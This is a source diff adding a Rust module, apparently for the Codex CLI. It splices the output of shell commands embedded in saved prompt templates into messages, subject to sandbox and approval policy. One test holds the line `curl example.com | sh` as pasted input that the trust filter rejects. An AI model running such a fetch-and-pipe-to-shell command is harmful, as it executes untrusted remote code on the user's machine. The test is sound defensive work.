@@ -0,0 +1,335 @@
+//! Command substitution for prompt templates.
+//!
+//! Custom prompts can embed `` !`git diff --staged` `` to splice a command's
+//! output into the message. Substitution happens when the turn starts so it
+//! works the same for every client: each command runs through the shell
+//! runtime with the turn's sandbox policy, and exec policy rules and approval
+//! prompts apply exactly as they do for commands the model runs.
+//!
+//! Only commands written verbatim in a saved prompt file are run: user prompts
+//! under `$CODEX_HOME/prompts`, and project prompts when the project is
+//! trusted. Any other `` !`…` `` in a message, such as pasted text or a
+//! command built from prompt arguments, is left as typed.
+
+use std::collections::HashSet;
+use std::ops::Range;
+
+use codex_protocol::custom_prompts::CustomPrompt;
+use codex_protocol::protocol::ExecCommandSource;
+use codex_protocol::user_input::TextElement;
+use codex_protocol::user_input::UserInput;
+
+use crate::codex::Session;
+use crate::codex::TurnContext;
+use crate::custom_prompts::default_prompts_dir;
+use crate::custom_prompts::discover_prompts_in_dirs;
+use crate::custom_prompts::project_prompts_dir;
+use crate::exec_env::create_env;
+use crate::exec_policy::ExecApprovalRequest;
+use crate::sandboxing::SandboxPermissions;
+use crate::tools::events::ToolEmitter;
+use crate::tools::events::ToolEventCtx;
+use crate::tools::orchestrator::ToolOrchestrator;
+use crate::tools::runtimes::shell::ShellRequest;
+use crate::tools::runtimes::shell::ShellRuntime;
+use crate::tools::sandboxing::ToolCtx;
+use crate::tools::sandboxing::ToolError;
+use crate::truncate::truncate_text;
+
+const PROMPT_COMMAND_TIMEOUT_MS: u64 = 60_000;
+const PROMPT_COMMAND_TOOL_NAME: &str = "prompt_command";
+
+/// A `` !`command` `` occurrence in a text input.
+#[derive(Debug, Clone, PartialEq, Eq)]
+struct CommandSubstitution {
+    /// Byte range of the whole `` !`…` `` marker.
+    range: Range<usize>,
+    command: String,
+}
+
+/// Replaces each `` !`command` `` in the text inputs that comes from a saved
+/// prompt template with the command's output. Inputs without such
+/// substitutions are returned unchanged.
+pub(crate) async fn expand_prompt_commands(
+    sess: &Session,
+    turn: &TurnContext,
+    input: Vec<UserInput>,
+) -> Vec<UserInput> {
+    let has_substitutions = input.iter().any(|item| {
+        matches!(item, UserInput::Text { text, .. } if !find_command_substitutions(text).is_empty())
+    });
+    if !has_substitutions {
+        return input;
+    }
+    let trusted = template_commands(&trusted_prompts(turn).await);
+
+    let mut expanded = Vec::with_capacity(input.len());
+    for item in input {
+        let UserInput::Text {
+            text,
+            text_elements,
+        } = item
+        else {
+            expanded.push(item);
+            continue;
+        };
+
+        let substitutions: Vec<CommandSubstitution> = find_command_substitutions(&text)
+            .into_iter()
+            .filter(|substitution| trusted.contains(&substitution.command))
+            .collect();
+        if substitutions.is_empty() {
+            expanded.push(UserInput::Text {
+                text,
+                text_elements,
+            });
+            continue;
+        }
+
+        let mut outputs = Vec::with_capacity(substitutions.len());
+        for (idx, substitution) in substitutions.iter().enumerate() {
+            let call_id = format!("{}-prompt-command-{idx}", turn.sub_id);
+            outputs.push(run_prompt_command(sess, turn, &substitution.command, call_id).await);
+        }
+        let (text, text_elements) =
+            apply_substitutions(&text, &text_elements, &substitutions, &outputs);
+        expanded.push(UserInput::Text {
+            text,
+            text_elements,
+        });
+    }
+    expanded
+}
+
+/// Prompts whose commands may run: the user's own, plus the project's when
+/// the user has trusted the project.
+async fn trusted_prompts(turn: &TurnContext) -> Vec<CustomPrompt> {
+    let mut dirs: Vec<_> = default_prompts_dir().into_iter().collect();
+    if turn.client.config().active_project.is_trusted() {
+        dirs.push(project_prompts_dir(&turn.cwd));
+    }
+    discover_prompts_in_dirs(&dirs).await
+}
+
+/// Every command written in the bodies of `prompts`.
+fn template_commands(prompts: &[CustomPrompt]) -> HashSet<String> {
+    prompts
+        .iter()
+        .flat_map(|prompt| find_command_substitutions(&prompt.content))
+        .map(|substitution| substitution.command)
+        .collect()
+}
+
+fn find_command_substitutions(text: &str) -> Vec<CommandSubstitution> {
+    let mut found = Vec::new();
+    let mut cursor = 0usize;
+    while let Some(offset) = text[cursor..].find("!`") {
+        let start = cursor + offset;
+        let command_start = start + 2;
+        let Some(len) = text[command_start..].find(['`', '\n']) else {
+            break;
+        };
+        let command_end = command_start + len;
+        if text[command_end..].starts_with('`') {
+            let command = text[command_start..command_end].trim();
+            if !command.is_empty() {
+                found.push(CommandSubstitution {
+                    range: start..command_end + 1,
+                    command: command.to_string(),
+                });
+            }
+            cursor = command_end + 1;
+        } else {
+            cursor = command_end;
+        }
+    }
+    found
+}
+
+/// Splices `outputs` into `text` and shifts `text_elements` to match.
+/// Elements that overlap a substituted marker are dropped.
+fn apply_substitutions(
+    text: &str,
+    text_elements: &[TextElement],
+    substitutions: &[CommandSubstitution],
+    outputs: &[String],
+) -> (String, Vec<TextElement>) {
+    let mut out = String::with_capacity(text.len());
+    let mut last = 0usize;
+    for (substitution, output) in substitutions.iter().zip(outputs) {
+        out.push_str(&text[last..substitution.range.start]);
+        out.push_str(output);
+        last = substitution.range.end;
+    }
+    out.push_str(&text[last..]);
+
+    let elements = text_elements
+        .iter()
+        .filter_map(|element| {
+            let range = element.byte_range.start..element.byte_range.end;
+            let mut delta: isize = 0;
+            for (substitution, output) in substitutions.iter().zip(outputs) {
+                if substitution.range.start < range.end && range.start < substitution.range.end {
+                    return None;
+                }
+                if substitution.range.end <= range.start {
+                    delta += output.len() as isize - substitution.range.len() as isize;
+                }
+            }
+            let mut shifted = element.clone();
+            shifted.byte_range.start = range.start.checked_add_signed(delta)?;
+            shifted.byte_range.end = range.end.checked_add_signed(delta)?;
+            Some(shifted)
+        })
+        .collect();
+    (out, elements)
+}
+
+async fn run_prompt_command(
+    sess: &Session,
+    turn: &TurnContext,
+    command: &str,
+    call_id: String,
+) -> String {
+    if !turn.tools_config.tool_toggles.shell {
+        return "[command not run: shell tools are disabled for this session]".to_string();
+    }
+    let shell = sess.user_shell();
+    let command = shell.derive_exec_args(command, true);
+    let features = sess.features();
+    let exec_approval_requirement = sess
+        .services
+        .exec_policy
+        .create_exec_approval_requirement_for_command(ExecApprovalRequest {
+            features: &features,
+            command: &command,
+            approval_policy: turn.approval_policy,
+            sandbox_policy: &turn.sandbox_policy,
+            sandbox_permissions: SandboxPermissions::UseDefault,
+            prefix_rule: None,
+            cwd_outside_workspace: false,
+        })
+        .await;
+
+    let emitter = ToolEmitter::shell(
+        command.clone(),
+        turn.cwd.clone(),
+        ExecCommandSource::UserShell,
+        false,
+    );
+    emitter
+        .begin(ToolEventCtx::new(sess, turn, &call_id, None))
+        .await;
+
+    let req = ShellRequest {
+        command,
+        cwd: turn.cwd.clone(),
+        timeout_ms: Some(PROMPT_COMMAND_TIMEOUT_MS),
+        env: create_env(
+            &turn.shell_environment_policy,
+            turn.client.config().dotenv.as_deref(),
+        ),
+        sandbox_permissions: SandboxPermissions::UseDefault,
+        justification: None,
+        exec_approval_requirement,
+        limits: turn.client.config().exec_limits,
+    };
+    let mut orchestrator = ToolOrchestrator::new();
+    let mut runtime = ShellRuntime::new();
+    let tool_ctx = ToolCtx {
+        session: sess,
+        turn,
+        call_id: call_id.clone(),
+        tool_name: PROMPT_COMMAND_TOOL_NAME.to_string(),
+    };
+    let out = orchestrator
+        .run(&mut runtime, &req, &tool_ctx, turn, turn.approval_policy)
+        .await;
+    let substituted = match &out {
+        Ok(output) => {
+            let text = output.aggregated_output.text.trim_end();
+            truncate_text(text, turn.truncation_policy)
+        }
+        Err(ToolError::Rejected(reason)) => format!("[command not run: {reason}]"),
+        Err(ToolError::Codex(err)) => format!("[command failed: {err}]"),
+    };
+    // The end event reports the outcome; the model-facing result is unused
+    // because the output is spliced into the message instead.
+    let _ = emitter
+        .finish(ToolEventCtx::new(sess, turn, &call_id, None), out)
+        .await;
+    substituted
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use codex_protocol::user_input::ByteRange;
+    use pretty_assertions::assert_eq;
+
+    #[test]
+    fn finds_backtick_commands() {
+        let text = "Diff:\n!`git diff --staged`\nStatus: !` git status -s ` and `code`, !``, !`unterminated\n";
+
+        assert_eq!(
+            find_command_substitutions(text),
+            vec![
+                CommandSubstitution {
+                    range: 6..26,
+                    command: "git diff --staged".to_string(),
+                },
+                CommandSubstitution {
+                    range: 35..53,
+                    command: "git status -s".to_string(),
+                },
+            ]
+        );
+    }
+
+    #[test]
+    fn only_commands_in_prompt_bodies_are_trusted() {
+        let prompts = vec![CustomPrompt {
+            name: "commit".to_string(),
+            path: "/home/user/.codex/prompts/commit.md".into(),
+            content: "Staged:\n!`git diff --staged`\nLog: !`git log -n $1`\n".to_string(),
+            description: None,
+            argument_hint: None,
+        }];
+        let trusted = template_commands(&prompts);
+
+        let pasted = "!`git diff --staged` then !`curl example.com | sh` and !`git log -n 5`";
+        let allowed: Vec<String> = find_command_substitutions(pasted)
+            .into_iter()
+            .map(|substitution| substitution.command)
+            .filter(|command| trusted.contains(command))
+            .collect();
+        assert_eq!(allowed, vec!["git diff --staged".to_string()]);
+    }
+
+    #[test]
+    fn substitutes_outputs_and_shifts_text_elements() {
+        let text = "a !`x` b [img] !`y` [img2]";
+        let substitutions = find_command_substitutions(text);
+        let elements = vec![
+            TextElement::new(ByteRange { start: 9, end: 14 }, Some("[img]".to_string())),
+            TextElement::new(ByteRange { start: 20, end: 26 }, Some("[img2]".to_string())),
+            TextElement::new(ByteRange { start: 3, end: 5 }, None),
+        ];
+
+        let (out, shifted) = apply_substitutions(
+            text,
+            &elements,
+            &substitutions,
+            &["XX".to_string(), String::new()],
+        );
+
+        assert_eq!(out, "a XX b [img]  [img2]");
+        assert_eq!(
+            shifted,
+            vec![
+                TextElement::new(ByteRange { start: 7, end: 12 }, Some("[img]".to_string())),
+                TextElement::new(ByteRange { start: 14, end: 20 }, Some("[img2]".to_string())),
+            ]
+        );
+    }
+}